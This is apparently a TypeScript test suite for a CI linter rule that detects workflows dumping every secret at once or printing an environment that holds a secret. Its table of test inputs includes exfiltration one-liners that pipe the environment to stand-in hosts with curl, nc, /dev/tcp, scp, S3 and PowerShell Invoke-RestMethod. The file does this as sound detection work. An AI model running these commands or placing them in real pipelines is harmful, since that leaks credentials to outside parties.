import assert from "node:assert/strict";
import { pipelineOf } from "../../server/core/analyze.ts";
import { EMPTY_CONTEXT } from "../../server/core/context.ts";
import { stepsOf } from "../../server/core/model.ts";
import { reachOfStep } from "../../server/core/reach.ts";
import { applyEdits } from "../../server/core/text.ts";
import { check, type Files, findingsOf, marksOf } from "../check.ts";

const RULE = "dumped-secrets";
const PATH = ".github/workflows/x.yml";

/** A workflow with one job and these steps. */
function workflow(steps: string, head = ""): string {
  return `on: push\n${head}jobs:\n  a:\n    runs-on: x\n    steps:\n${steps}`;
}

describe("all secrets at once", () => {
  const WHOLE: readonly (readonly [what: string, path: string, marked: string])[] = [
    [
      "in a variable of a step, in any case of the function",
      PATH,
      workflow(`      - run: ./x
        env:
          ALL: \${{ toJson(secrets) }}
#                  ^^^^^^^^^^^^^^^
`),
    ],
    [
      "in an input of an action",
      PATH,
      workflow(`      - uses: acme/x@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          secrets: "\${{ toJSON( secrets ) }}"
#                       ^^^^^^^^^^^^^^^^^
`),
    ],
    [
      "in the text of a script",
      PATH,
      workflow(`      - run: |
          echo '\${{ toJSON(secrets) }}' > s.json
#                   ^^^^^^^^^^^^^^^
`),
    ],
    [
      "for the whole workflow",
      PATH,
      workflow(
        "      - run: ./x\n",
        `env:
  ALL: \${{ toJSON(secrets) }}
#          ^^^^^^^^^^^^^^^
`,
      ),
    ],
    [
      "as the values of the context",
      PATH,
      workflow(`      - run: ./x
        env:
          ALL: \${{ join(secrets.*, ' ') }}
#                       ^^^^^^^^^
`),
    ],
    [
      "in Forgejo",
      ".forgejo/workflows/x.yml",
      workflow(`      - run: ./x
        env:
          ALL: \${{ toJSON(secrets) }}
#                  ^^^^^^^^^^^^^^^
`),
    ],
    [
      "for a called workflow under a name",
      PATH,
      `on: push
jobs:
  a:
    uses: ./.github/workflows/y.yml
    secrets:
      ALL: \${{ toJSON(secrets) }}
#              ^^^^^^^^^^^^^^^
`,
    ],
    [
      "of a key vault, without a filter",
      "azure-pipelines.yml",
      `steps:
  - task: AzureKeyVault@2
    inputs:
      KeyVaultName: shop
#                   ^^^^
`,
    ],
    [
      "of a key vault, in a job before anything else runs",
      "azure-pipelines.yml",
      `jobs:
  - job: a
    steps:
      - task: AzureKeyVault@1
        inputs: {azureSubscription: x, keyVaultName: shop, secretsFilter: "*", RunAsPreJob: true}
#                                                                         ^^^
      - script: make
`,
    ],
    [
      "of a Kubernetes secret, in a step and for all steps",
      "task.yaml",
      `apiVersion: tekton.dev/v1
kind: Task
metadata: {name: t}
spec:
  stepTemplate:
    envFrom:
      - secretRef: {name: shared}
#                         ^^^^^^
  steps:
    - name: a
      image: x
      script: make
    - name: b
      image: x
      envFrom:
        - configMapRef: {name: settings}
        - secretRef: {name: publishing}
#                           ^^^^^^^^^^
      script: make
`,
    ],
    [
      "of a path of a vault",
      PATH,
      workflow(`      - uses: hashicorp/vault-action@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          url: https://vault.example
          secrets: secret/data/ci * | CI_ ; secret/data/npm token
#         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
`),
    ],
    [
      "of a vault of Azure",
      PATH,
      workflow(`      - uses: Azure/get-keyvault-secrets@v1
        with:
          keyvault: shop
          secrets: '*'
#         ^^^^^^^^^^^^
`),
    ],
    [
      "of names that begin alike",
      PATH,
      workflow(`      - uses: aws-actions/aws-secretsmanager-get-secrets@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          secret-ids: |
#         ^^^^^^^^^^^^^
            ,plain
            APP,prod/app*
`),
    ],
  ];
  for (const [what, path, marked] of WHOLE) it(`are found ${what}`, () => check(RULE, path, marked));

  const NAMED: readonly (readonly [what: string, path: string, text: string])[] = [
    [
      "single secrets",
      PATH,
      workflow(
        "      - run: ./x\n        env:\n          A: ${{ secrets.A }}\n          B: ${{ toJSON(secrets.B) }}\n",
      ),
    ],
    [
      "another context",
      PATH,
      workflow(
        "      - run: ./x\n        env:\n          A: ${{ toJSON(github) }}\n          B: ${{ toJSON(inputs.secrets) }}\n",
      ),
    ],
    [
      "a computed name, which is another matter",
      PATH,
      workflow("      - run: ./x\n        env:\n          A: ${{ secrets[inputs.a] }}\n"),
    ],
    [
      "inherited ones, which are another matter",
      PATH,
      "on: push\njobs:\n  a:\n    uses: ./.github/workflows/y.yml\n    secrets: inherit\n",
    ],
    [
      "a filter with names",
      "azure-pipelines.yml",
      "steps:\n  - task: AzureKeyVault@2\n    inputs: {KeyVaultName: shop, SecretsFilter: 'a,b'}\n",
    ],
    [
      "a filter that another file fills in",
      "azure-pipelines.yml",
      "steps:\n  - task: AzureKeyVault@2\n    inputs: {KeyVaultName: shop, SecretsFilter: '${{ parameters.names }}'}\n",
    ],
    [
      "a key of a Kubernetes secret, and a mounted one",
      "task.yaml",
      "apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec:\n  volumes: [{name: v, secret: {secretName: s}}]\n  steps:\n    - image: x\n      script: make\n      volumeMounts: [{name: v, mountPath: /v}]\n      env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: a}}}]\n",
    ],
    [
      "keys of a vault",
      PATH,
      workflow(
        "      - uses: hashicorp/vault-action@v3\n        with:\n          secrets: |\n            secret/data/ci token | TOKEN ;\n            secret/data/*/x key | KEY\n",
      ),
    ],
    [
      "names in full",
      PATH,
      workflow(
        "      - uses: aws-actions/aws-secretsmanager-get-secrets@v2\n        with: {secret-ids: 'APP,prod/app'}\n",
      ),
    ],
    [
      "a secret of a build, which may be one value",
      "buildspec.yml",
      "version: 0.2\nenv:\n  secrets-manager:\n    DB: prod/db\nphases: {build: {commands: [make]}}\n",
    ],
  ];
  for (const [what, path, text] of NAMED) it(`are not ${what}`, () => check(RULE, path, text));

  /** The value of `ALL`, what else the step says, and what `ALL` becomes. */
  const KEYS: readonly (readonly [what: string, value: string, rest: string, fixed: string | undefined])[] = [
    [
      "keys that jq prints",
      "${{ toJSON(secrets) }}",
      '        run: |\n          A=$(jq -r .A <<< "$ALL")\n          echo "$ALL" | jq -r \'.["B-C"]\' > b\n          A=$(printf %s "$ALL" | jq -er .A)\n',
      `'{"A": \${{ toJSON(secrets.A) }}, "B-C": \${{ toJSON(secrets.B-C) }}}'`,
    ],
    [
      "in double quotes",
      '"${{ toJSON(secrets) }}"',
      '        run: jq -r .A <<< "$ALL"\n',
      `"{\\"A\\": \${{ toJSON(secrets.A) }}}"`,
    ],
    [
      "in single quotes",
      "'${{toJSON(secrets)}}'",
      '        run: jq -r .A <<< "$ALL"\n',
      `'{"A": \${{ toJSON(secrets.A) }}}'`,
    ],
    [
      "keys that expressions read",
      "${{ toJSON(secrets) }}",
      "        uses: acme/x@11bd71901bbe5b1630ceea73d27597364c9af683\n        with:\n          a: ${{ fromJSON(env.ALL).A }}\n          b: ${{ fromJSON( env.ALL )['B'] }}\n",
      `'{"A": \${{ toJSON(secrets.A) }}, "B": \${{ toJSON(secrets.B) }}}'`,
    ],
    ["none where nothing is seen to read one", "${{ toJSON(secrets) }}", "        run: ./x\n", undefined],
    [
      "none where a program gets all of it",
      "${{ toJSON(secrets) }}",
      '        run: |\n          jq -r .A <<< "$ALL"\n          ./x "$ALL"\n',
      undefined,
    ],
    [
      "none where jq does more",
      "${{ toJSON(secrets) }}",
      '        run: echo "$ALL" | jq -r "to_entries[]"\n',
      undefined,
    ],
    [
      "none where more than the secrets is in it",
      "x${{ toJSON(secrets) }}",
      '        run: jq -r .A <<< "$ALL"\n',
      undefined,
    ],
  ];
  for (const [what, value, rest, fixed] of KEYS) {
    it(`shrink to what is taken out: ${what}`, () => {
      const text = (of: string) => workflow(`      - env:\n          ALL: ${of}\n${rest}`);
      const [finding, ...others] = findingsOf(RULE, PATH, text(value));
      assert.ok(finding !== undefined && others.length === 0);
      assert.equal(finding.severity, "warning");
      const [fix] = finding.fixes;
      if (fixed === undefined) return assert.equal(fix, undefined);
      assert.ok(fix !== undefined && "edits" in fix);
      const after = applyEdits(text(value), fix.edits);
      assert.equal(after, text(fixed));
      assert.deepEqual(findingsOf(RULE, PATH, after), []);
    });
  }

  const VAULT =
    "steps:\n  - task: AzureKeyVault@2\n    inputs:\n      KeyVaultName: shop\n      SecretsFilter: *\n".replace(
      "*",
      "'*'",
    );
  const FILTERS: readonly (readonly [what: string, head: string, rest: string, fixed: string | undefined])[] = [
    [
      "what later steps name",
      "",
      "  - bash: ./a\n    env: {A: $(db-password), T: $(System.AccessToken)}\n  - bash: ./b $(apiKey)\n",
      "'db-password,apiKey'",
    ],
    ["nothing where nobody names one", "", "  - bash: ./a\n", undefined],
    ["nothing where a template can name more", "", "  - bash: ./a $(apiKey)\n  - template: more.yml\n", undefined],
    [
      "nothing where a group can bring it as well",
      "variables:\n  - group: shop\n",
      "  - bash: ./a $(apiKey)\n",
      undefined,
    ],
    ["nothing where a name cannot be one of a vault", "", "  - bash: ./a $(apiKey) $(DB_PASSWORD)\n", undefined],
    ["nothing where a task fills in files", "", "  - bash: ./a $(apiKey)\n  - task: replacetokens@6\n", undefined],
  ];
  for (const [what, head, rest, fixed] of FILTERS) {
    it(`of a vault shrink to ${what}`, () => {
      const text = head + VAULT + rest;
      const [finding, ...others] = findingsOf(RULE, "azure-pipelines.yml", text);
      assert.ok(finding !== undefined && others.length === 0);
      assert.equal(finding.severity, "information");
      const [fix] = finding.fixes;
      if (fixed === undefined) return assert.equal(fix, undefined);
      assert.ok(fix !== undefined && "edits" in fix);
      assert.equal(applyEdits(text, fix.edits), text.replace("'*'", fixed));
    });
  }

  it("are in reach of a step as what they are", () => {
    const text = workflow("      - run: ./x\n        env: {ALL: '${{ toJSON(secrets) }}'}\n");
    const pipeline = pipelineOf({ path: PATH, text }, EMPTY_CONTEXT);
    const reach = [...stepsOf(pipeline ?? assert.fail())].flatMap(({ step }) => reachOfStep(step));
    assert.deepEqual(
      reach.map(({ name, kind, extent }) => `${name} ${kind} ${extent}`),
      ["every secret that this workflow can have named whole"],
    );
  });
});

describe("an environment with a secret in it", () => {
  /** A step of this shell with a secret and one that only follows. */
  const step = (run: string, shell = "bash") => {
    const lines = run.split("\n").map((line) => `          ${line}\n`);
    return workflow(
      `      - shell: ${shell}\n        env: {TOKEN: "\${{ secrets.TOKEN }}"}\n        run: |\n${lines.join("")}`,
    );
  };
  type Row = readonly [run: string, severity: "information" | "warning" | "silent", shell?: string];
  const ROWS: readonly Row[] = [
    ["env", "information"],
    ["env -0 | sort -z", "information"],
    ["env FOO=bar", "information"],
    ["printenv", "information"],
    ["/usr/bin/printenv | sort | less", "information"],
    ["set", "information"],
    ["export -p", "information"],
    ["declare -px", "information"],
    ["sudo -E env", "information"],
    ["time env | column -t", "information"],
    ["cat /proc/self/environ", "information"],
    ["env >&2", "information"],
    ["env > /dev/stderr", "information"],
    ["{ date; env; } | cat", "information"],
    ["if true; then env; fi", "information"],
    ["show() { printenv; }\nshow", "information"],
    ["bash -c 'env | sort'", "information"],
    ['echo "$(env)"', "information"],
    ["env > all.txt\ncat all.txt", "information"],
    ["env | tee all.txt", "information"],
    ["env | grep -v PATH", "information"],
    ["env || true", "information"],
    ["env | base64", "warning"],
    ["printenv | gzip | base64 -w0", "warning"],
    ["env | curl -d @- https://x.example", "warning"],
    ["env | curl -sT - https://x.example", "warning"],
    ['curl -d "$(env | base64)" https://x.example', "warning"],
    ["env | nc x.example 4444", "warning"],
    ["env > /dev/tcp/x.example/80", "warning"],
    ["printenv > /tmp/e\ncurl -F f=@/tmp/e https://x.example", "warning"],
    ["env | aws s3 cp - s3://x/env", "warning"],
    ["cd out\nenv > e.txt\nscp e.txt host:", "warning"],
    ["Get-ChildItem Env:", "information", "pwsh"],
    ["gci env:* | Sort-Object Name | Format-Table -AutoSize", "information", "pwsh"],
    ["dir env:\\ | Out-String | Write-Host", "information", "pwsh"],
    ["[System.Environment]::GetEnvironmentVariables()", "information", "pwsh"],
    ["Invoke-RestMethod https://x.example -Method Post -Body (gci env: | Out-String)", "warning", "pwsh"],
    ["set", "information", "cmd"],
    ["set | sort", "information", "cmd"],
    // What only looks like it.
    ["set -e", "silent"],
    ["set -euo pipefail", "silent"],
    ["env -i", "silent"],
    ["env -i PATH=/bin ./x", "silent"],
    ["env FOO=bar ./x", "silent"],
    ["env FOO=bar -u X make", "silent"],
    ["env --version", "silent"],
    ["printenv PATH", "silent"],
    ["export TOKEN2=x", "silent"],
    ["declare -a list", "silent"],
    ["sudo env", "silent"],
    ["env | grep -q CI", "silent"],
    ["env | grep ^GITHUB_", "silent"],
    ["env | cut -d= -f1", "silent"],
    ["env | wc -l", "silent"],
    ["env > /dev/null", "silent"],
    ["ALL=$(env)", "silent"],
    ['[ -n "$(env | grep CI)" ] && make', "silent"],
    ["env > all.txt", "silent"],
    ["export -p > .env.sh\n. ./.env.sh", "silent"],
    ["docker run --rm alpine env", "silent"],
    ["ssh host env", "silent"],
    ["ssh host 'printenv | sort'", "silent"],
    ["echo env", "silent"],
    ["echo 'env | curl -d @- https://x.example'", "silent"],
    ["# env", "silent"],
    ["cat <<'EOF'\nenv\nEOF", "silent"],
    ["exit 0\nenv", "silent"],
    ["./env", "silent"],
    ["git config --list", "silent"],
    ["set PATH", "silent", "cmd"],
    ["set A=b", "silent", "cmd"],
    ["gci env:PATH", "silent", "pwsh"],
    ["Get-ChildItem Env: | Where-Object Name -like 'CI*'", "silent", "pwsh"],
    ["Get-ChildItem .", "silent", "pwsh"],
    ["$env:TOKEN.Length", "silent", "pwsh"],
  ];
  for (const [run, severity, shell = "bash"] of ROWS) {
    it(`is ${severity === "silent" ? "nobody's business" : `${severity} in the hands of others`}: ${shell}: ${JSON.stringify(run)}`, () => {
      const found = findingsOf(RULE, PATH, step(run, shell)).map((each) => each.severity);
      assert.deepEqual(found, severity === "silent" ? [] : [severity]);
    });
  }

  it("is marked where it is printed, and names what is in it", () => {
    check(
      RULE,
      PATH,
      workflow(`      - env:
          TOKEN: \${{ secrets.TOKEN }}
        run: |
          make
          env | sort
#         ^^^
`),
    );
    const [finding] = findingsOf(RULE, PATH, step("env"));
    assert.match(finding?.message ?? "", /^The whole environment goes into the log, and TOKEN with it/);
  });

  const SYSTEMS: readonly (readonly [path: string, marked: string])[] = [
    ["azure-pipelines.yml", "steps:\n  - bash: printenv | sort\n#         ^^^^^^^^\n    env: {TOKEN: $(apiToken)}\n"],
    [
      "azure-pipelines.yml",
      "pool: {vmImage: windows-2022}\nsteps:\n  - script: set\n#           ^^^\n    env: {TOKEN: $(apiToken)}\n",
    ],
    [
      ".drone.yml",
      "kind: pipeline\nsteps:\n  - name: a\n    image: x\n    environment: {TOKEN: {from_secret: token}}\n    commands:\n      - printenv\n#       ^^^^^^^^\n",
    ],
    [
      ".woodpecker.yml",
      "steps:\n  - name: a\n    image: x\n    environment: {TOKEN: {from_secret: token}}\n    commands:\n      - env\n#       ^^^\n",
    ],
    [
      "buildspec.yml",
      "version: 0.2\nenv:\n  secrets-manager: {DB: 'prod/db:password'}\nphases:\n  build:\n    commands:\n      - printenv\n#       ^^^^^^^^\n",
    ],
    [
      "cloudbuild.yaml",
      "steps:\n  - name: ubuntu\n    entrypoint: bash\n    args: [-c, env]\n#              ^^^\n    secretEnv: [TOKEN]\navailableSecrets:\n  secretManager:\n    - {versionName: projects/p/secrets/t/versions/1, env: TOKEN}\n",
    ],
    [
      "task.yaml",
      "apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec:\n  steps:\n    - image: x\n      env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: a}}}]\n      script: env\n#             ^^^\n",
    ],
    [".travis.yml", "language: c\nenv:\n  global:\n    - secure: abc\nscript:\n  - printenv\n#   ^^^^^^^^\n"],
    [
      "appveyor.yml",
      "environment:\n  TOKEN: {secure: abc}\nbuild_script:\n  - cmd: set\n#        ^^^\n  - ps: 'gci env:'\n#        ^^^^^^^^\n",
    ],
    [".buildkite/pipeline.yml", "steps:\n  - command: env\n#            ^^^\n    secrets: [TOKEN]\n"],
  ];
  for (const [path, marked] of SYSTEMS)
    it(`is found in ${path}: ${JSON.stringify(marked.slice(0, 40))}`, () => check(RULE, path, marked));

  const CALM: readonly (readonly [path: string, text: string])[] = [
    [PATH, workflow("      - run: env\n")],
    [PATH, workflow("      - run: env\n        env: {GITHUB_TOKEN: '${{ secrets.GITHUB_TOKEN }}'}\n")],
    [
      PATH,
      workflow(
        "      - uses: a/b@11bd71901bbe5b1630ceea73d27597364c9af683\n        with: {token: '${{ secrets.A }}'}\n      - run: env\n",
      ),
    ],
    [".gitlab-ci.yml", "a:\n  script:\n    - env\n"],
    [".circleci/config.yml", "version: 2.1\njobs:\n  a:\n    docker: [{image: x}]\n    steps: [{run: env | sort}]\n"],
    ["bitbucket-pipelines.yml", "pipelines: {default: [{step: {script: [printenv]}}]}\n"],
    ["buildspec.yml", "version: 0.2\nphases: {build: {commands: [printenv]}}\n"],
    [
      ".drone.yml",
      "kind: pipeline\nsteps:\n  - {name: a, image: x, commands: [env]}\n  - {name: b, image: y, settings: {password: {from_secret: p}}}\n",
    ],
  ];
  for (const [path, text] of CALM)
    it(`is calm where the file puts no secret into it: ${path}`, () => check(RULE, path, text));

  it("is read by whoever may see the run where its file is uploaded", () => {
    const text = (path: string) =>
      workflow(`      - env: {TOKEN: "\${{ secrets.TOKEN }}"}
        run: env > logs/env.txt
      - uses: actions/upload-artifact@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          path: |
            other
            ${path}
`);
    for (const path of ["logs", "./logs/", "logs/env.txt", "."]) {
      const [finding] = findingsOf(RULE, PATH, text(path));
      assert.match(finding?.message ?? "", /written to logs\/env\.txt and uploaded/, path);
      assert.equal(finding?.severity, "warning");
    }
    assert.deepEqual(findingsOf(RULE, PATH, text("dist")), []);
  });

  it("is marked in the script of the repository that prints it", () => {
    const files: Files = { "ci/x.sh": "#!/bin/sh\nmake\nprintenv\n" };
    const text = step("bash ci/x.sh");
    const found = findingsOf(RULE, PATH, text, files);
    assert.deepEqual(
      found.map(({ path }) => path),
      ["ci/x.sh"],
    );
    assert.deepEqual(marksOf(files["ci/x.sh"] ?? "", found), ["2:0-8"]);
    assert.deepEqual(
      found.flatMap(({ related }) => related),
      [],
    );
  });
});
